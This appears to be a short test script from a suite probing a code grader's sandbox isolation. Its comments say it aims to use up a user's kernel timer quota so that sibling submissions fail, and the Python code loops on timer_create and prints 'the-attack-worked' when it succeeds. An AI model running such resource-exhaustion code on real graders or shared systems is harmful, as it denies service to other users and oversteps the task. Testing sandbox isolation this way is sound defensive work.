# intent: timers, of which the kernel allows a number to a user, are used up for all submissions, which are one user's
# family: siblings
# stock: not run: it was written against the source of this grader
# sibling: yes
# before: all timers of the user were taken

# %%
import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)
made = 0
timer = ctypes.c_void_p()
event = ctypes.create_string_buffer(b"\0" * 12 + (1).to_bytes(4, "little"), 64)  # SIGEV_NONE
while made < 10_000 and libc.timer_create(1, event, ctypes.byref(timer)) == 0:
    made += 1
time.sleep(1)
print(made)
if made == 10_000:
    print("the-attack" + "-worked")
